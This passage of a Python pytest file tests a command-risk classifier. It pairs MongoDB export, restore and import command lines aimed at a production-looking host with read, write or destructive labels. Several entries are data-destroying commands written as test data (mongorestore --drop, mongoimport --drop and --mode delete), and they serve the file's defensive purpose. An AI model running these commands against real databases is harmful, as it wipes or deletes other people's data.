    (["mongoexport", "--uri=mongodb://db.prod.internal/app", "-c", "users"], "mongo.dump", R),
    (["mongorestore", "--uri", "mongodb://db.prod.internal/app", "build/dump"],
     "mongorestore.load", W),
    (["mongorestore", "--drop", "--uri", "mongodb://db.prod.internal/app", "build/dump"],
     "mongorestore.drop", D),
    (["mongorestore", "-h", "db.prod.internal", "-d", "app", "--drop", "build/dump/app"],
     "mongorestore.drop", D),
    (["mongoimport", "--uri", "mongodb://db.prod.internal/app", "-c", "users", "--mode",
      "delete", "--file", "ids.json"], "mongoimport.delete", D),
    (["mongoimport", "--uri", "mongodb://db.prod.internal/app", "-c", "users", "--drop"],
     "mongoimport.drop", D),
])
def test_mongo_tools_by_what_they_do(argv: list[str], verb: str, risk: Risk,
                                     tmp_path: Path) -> None:
    targets, _ = run(argv, tmp_path)
    db = next(t for t in targets if t.kind == "database")
    assert (db.verb, db.risk) == (verb, risk), targets
    assert db.locator.startswith("mongodb://db.prod.internal:27017/app"), db.locator


def test_mongorestore_drop_into_an_unknown_uri_is_unresolved(tmp_path: Path) -> None:
    targets, _ = run(["mongorestore", "--drop", "--uri", VAR, "build/dump"], tmp_path)
    assert targets[0].risk == D and targets[0].unresolved
